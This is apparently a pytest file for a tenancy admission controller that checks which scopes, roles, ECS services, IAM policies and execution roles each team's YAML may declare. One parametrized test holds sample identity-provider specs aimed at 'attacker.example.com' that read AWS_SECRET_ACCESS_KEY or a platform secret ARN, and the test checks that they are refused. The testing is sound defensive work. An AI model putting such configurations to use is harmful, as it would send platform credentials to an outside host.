"""What each team's files may declare, decided from the platform's settings alone.

Pure: files on disk are only where the positions come from; no AWS, no IdP.
"""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from controller.desired import Diagnostic, load
from controller.tenancy import Team, Tenancy, admit

PLATFORM = """\
apiVersion: ecs-oauth.dev/v1alpha1
kind: IdentityProvider
metadata: {name: corp}
spec:
  cognito: {userPoolId: us-east-1_Ex4mple01, tokenEndpoint: https://auth.example.com/t}
---
apiVersion: ecs-oauth.dev/v1alpha1
kind: Scope
metadata: {name: audit.read}
spec: {provider: corp, resourceServer: audit, value: audit/read}
---
apiVersion: ecs-oauth.dev/v1alpha1
kind: Role
metadata: {name: auditor}
spec: {scopes: [audit.read]}
"""

PAYMENTS = """\
apiVersion: ecs-oauth.dev/v1alpha1
kind: Scope
metadata: {name: orders.read}
spec: {provider: corp, resourceServer: orders, value: orders/read}
---
apiVersion: ecs-oauth.dev/v1alpha1
kind: Scope
metadata: {name: orders.write}
spec: {provider: corp, resourceServer: orders, value: orders/write}
---
apiVersion: ecs-oauth.dev/v1alpha1
kind: Role
metadata: {name: orders-reader}
spec: {scopes: [orders.read]}
---
apiVersion: ecs-oauth.dev/v1alpha1
kind: Service
metadata: {name: orders-api}
spec:
  role: orders-reader
  cluster: prod
  service: orders-api
  taskDefinition: {family: orders-api, container: app}
"""

TENANCY = Tenancy(
    platform_paths=["platform"],
    teams={
        "payments": Team(
            paths=["teams/payments"],
            ecs_services=["prod/orders-*", "batch/ledger-*"],
            task_definition_families=["orders-*", "ledger-*"],
            scopes=["orders/*", "ledger:*"],
            managed_policy_arns=["arn:aws:iam::aws:policy/AmazonS3ReadOnlyAccess"],
            execution_role_arns=["arn:aws:iam::*:role/payments-*"],
        ),
        "shipping": Team(
            paths=["teams/shipping"],
            ecs_services=["prod/ship-*"],
            task_definition_families=["ship-*"],
            scopes=["ship/*"],
        ),
    },
)
ALLOWED = ["arn:aws:iam::aws:policy/AmazonS3ReadOnlyAccess"]


def tree(root: Path, files: dict[str, str]) -> Path:
    for name, text in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(textwrap.dedent(text))
    return root


def admitted(
    root: Path, extra: dict[str, str], tenancy: Tenancy = TENANCY, allowed: list[str] = ALLOWED
) -> list[Diagnostic]:
    files = {"platform/idp.yaml": PLATFORM, "teams/payments/app.yaml": PAYMENTS, **extra}
    return admit(load(tree(root, files)), root, tenancy, allowed)


def only(problems: list[Diagnostic]) -> str:
    assert len(problems) == 1, problems
    return str(problems[0])


def document(kind: str, name: str, *spec: str) -> str:
    """One object; its spec lines start on line 5, so positions are easy to read off."""
    lines = "".join(f"  {line}\n" for line in spec)
    header = f"apiVersion: ecs-oauth.dev/v1alpha1\nkind: {kind}\nmetadata: {{name: {name}}}\n"
    return f"{header}spec:\n{lines}"


def service(name: str, role: str = "orders-reader", wired: str = "orders-api-2", *more: str) -> str:
    return document(
        "Service",
        name,
        f"role: {role}",
        "cluster: prod",
        f"service: {wired}",
        f"taskDefinition: {{family: {wired}, container: app}}",
        *more,
    )


def role(name: str, *more: str) -> str:
    return document("Role", name, "scopes: [orders.write]", *more)


def scope(name: str, server: str, value: str) -> str:
    return document("Scope", name, "provider: corp", f"resourceServer: {server}", f"value: {value}")


class TestFilesAndTheirOwners:
    def test_a_tree_within_every_grant_is_admitted(self, tmp_path: Path) -> None:
        assert admitted(tmp_path, {}) == []

    def test_a_file_outside_every_owners_folder_is_refused_at_its_first_line(
        self, tmp_path: Path
    ) -> None:
        stray = scope("x", "orders", "orders/x")
        message = only(admitted(tmp_path, {"loose/x.yaml": stray}))
        assert message.startswith(f"{tmp_path}/loose/x.yaml:1:1: error: Scope/x is in a file")
        assert "teams/payments (team payments)" in message
        assert "platform (platform)" in message

    @pytest.mark.parametrize(
        "spec",
        [
            "cognito: {userPoolId: us-east-1_Ex4mple01, tokenEndpoint: https://auth.example.com/t}",
            # Each of these would send a platform credential to a host the team chose.
            "okta: {orgUrl: https://attacker.example.com, authorizationServerId: default,"
            " apiToken: {fromEnv: AWS_SECRET_ACCESS_KEY}}",
            "oidc: {issuer: https://attacker.example.com,"
            " initialAccessToken: {fromSecretArn: 'arn:aws:secretsmanager:us-east-1:"
            "123456789012:secret:platform-db-AbCdEf'}}",
        ],
        ids=["cognito", "okta-reading-a-platform-variable", "oidc-reading-a-platform-secret"],
    )
    def test_a_team_may_not_declare_an_identity_provider(self, tmp_path: Path, spec: str) -> None:
        idp = (
            "apiVersion: ecs-oauth.dev/v1alpha1\nkind: IdentityProvider\n"
            f"metadata: {{name: mine}}\nspec:\n  {spec}\n"
        )
        message = only(admitted(tmp_path, {"teams/shipping/idp.yaml": idp}))
        assert ":2:7: error: IdentityProvider mine (team shipping) may not be declared" in message

    def test_the_platforms_folders_may_declare_what_no_team_may(self, tmp_path: Path) -> None:
        wide = [scope("any", "anything", "anything/x"), service("any", "orders-reader", "any")]
        assert admitted(tmp_path, {"platform/more.yaml": "---\n".join(wide)}) == []

    def test_without_tenancy_any_folder_is_fine(self, tmp_path: Path) -> None:
        assert admitted(tmp_path, {"x.yaml": service("loose")}, tenancy=Tenancy()) == []


class TestScopes:
    def test_a_team_may_define_only_scope_values_its_grant_names(self, tmp_path: Path) -> None:
        message = only(
            admitted(tmp_path, {"teams/payments/s.yaml": scope("l", "ledger", "ledger/x")})
        )
        assert ":7:10: error: Scope l (team payments) may not define scope ledger/x;" in message
        assert "payments may define orders/*, ledger:*" in message

    def test_a_team_may_not_add_scopes_to_another_teams_resource_server(
        self, tmp_path: Path
    ) -> None:
        sneaky = scope("sneaky", "orders", "orders/admin")
        message = only(admitted(tmp_path, {"teams/shipping/s.yaml": sneaky}))
        assert ":7:10: error: Scope sneaky (team shipping) may not define scope orders/admin;" in (
            message
        )
        assert message.endswith("shipping may define ship/*")

    def test_a_team_role_may_not_grant_a_scope_outside_its_grant(self, tmp_path: Path) -> None:
        thief = document("Role", "thief", "scopes: [audit.read, orders.read]")
        problems = admitted(tmp_path, {"teams/shipping/r.yaml": thief})
        assert [str(p.location).rsplit("/", 1)[1] for p in problems] == [
            "r.yaml:5:12",
            "r.yaml:5:24",
        ]
        assert [p.message for p in problems] == [
            f"Role thief (team shipping) may not grant scope {value}; shipping may grant ship/*"
            for value in ("audit/read", "orders/read")
        ]


class TestManagedPolicies:
    ADMIN = "arn:aws:iam::aws:policy/AdministratorAccess"
    READ = "arn:aws:iam::aws:policy/AmazonS3ReadOnlyAccess"

    def wide(self, arn: str) -> str:
        return role("wide", f"managedPolicyArns: [{arn}]")

    def test_administrator_access_is_refused_by_the_global_allowlist_and_the_team(
        self, tmp_path: Path
    ) -> None:
        problems = admitted(tmp_path, {"teams/payments/wide.yaml": self.wide(self.ADMIN)})
        assert {str(p.location).rsplit("/", 1)[1] for p in problems} == {"wide.yaml:6:23"}
        messages = sorted(p.message for p in problems)
        assert messages == [
            f"Role wide (team payments) may not attach {self.ADMIN}; payments may attach "
            f"{self.READ}",
            f"Role wide may not attach {self.ADMIN}: the platform's "
            f"iam.allowedManagedPolicyArns allows {self.READ}",
        ]

    def test_without_tenancy_the_global_allowlist_still_applies(self, tmp_path: Path) -> None:
        message = only(admitted(tmp_path, {"x.yaml": self.wide(self.ADMIN)}, tenancy=Tenancy()))
        assert message.endswith(f"iam.allowedManagedPolicyArns allows {self.READ}")

    def test_the_default_allowlist_allows_no_managed_policy(self, tmp_path: Path) -> None:
        files = {"x.yaml": self.wide(self.READ)}
        message = only(admitted(tmp_path, files, tenancy=Tenancy(), allowed=[]))
        assert message.endswith("iam.allowedManagedPolicyArns allows nothing")

    def test_a_policy_both_lists_allow_is_admitted(self, tmp_path: Path) -> None:
        assert admitted(tmp_path, {"teams/payments/ok.yaml": self.wide(self.READ)}) == []


class TestServices:
    def test_the_issues_example_names_the_rule_and_what_is_allowed(self, tmp_path: Path) -> None:
        text = PAYMENTS.replace("service: orders-api", "service: checkout")
        message = only(admitted(tmp_path, {"teams/payments/app.yaml": text}))
        assert message.endswith(
            "app.yaml:22:12: error: Service orders-api (team payments) may not wire ECS service "
            "prod/checkout; payments may wire prod/orders-*, batch/ledger-*"
        )

    def test_a_service_may_use_a_platform_role(self, tmp_path: Path) -> None:
        assert admitted(tmp_path, {"teams/payments/b.yaml": service("b", "auditor")}) == []

    def test_a_service_may_not_use_another_teams_role(self, tmp_path: Path) -> None:
        text = service("ship-api", "orders-reader", "ship-api")
        message = only(admitted(tmp_path, {"teams/shipping/s.yaml": text}))
        assert (
            ":5:9: error: Service ship-api (team shipping) may not use Role orders-reader of "
            in (message)
        )
        assert message.endswith("team payments; shipping may use its own Roles and the platform's")

    def test_a_service_may_not_register_another_teams_family(self, tmp_path: Path) -> None:
        text = PAYMENTS.replace("family: orders-api", "family: ship-api")
        message = only(admitted(tmp_path, {"teams/payments/app.yaml": text}))
        assert "may not register task definition family ship-api; payments may register " in (
            message
        )

    @pytest.mark.parametrize(
        ("arn", "allowed"),
        [
            ("arn:aws:iam::123456789012:role/payments-exec", True),
            ("arn:aws:iam::123456789012:role/admin", False),
        ],
    )
    def test_an_execution_role_must_match_the_teams_globs(
        self, tmp_path: Path, arn: str, allowed: bool
    ) -> None:
        text = service("b", "orders-reader", "orders-b", f"executionRoleArn: {arn}")
        problems = admitted(tmp_path, {"teams/payments/b.yaml": text})
        assert (problems == []) is allowed
        if not allowed:
            assert only(problems).endswith(
                f"may not pass execution role {arn}; payments may pass "
                "arn:aws:iam::*:role/payments-*"
            )
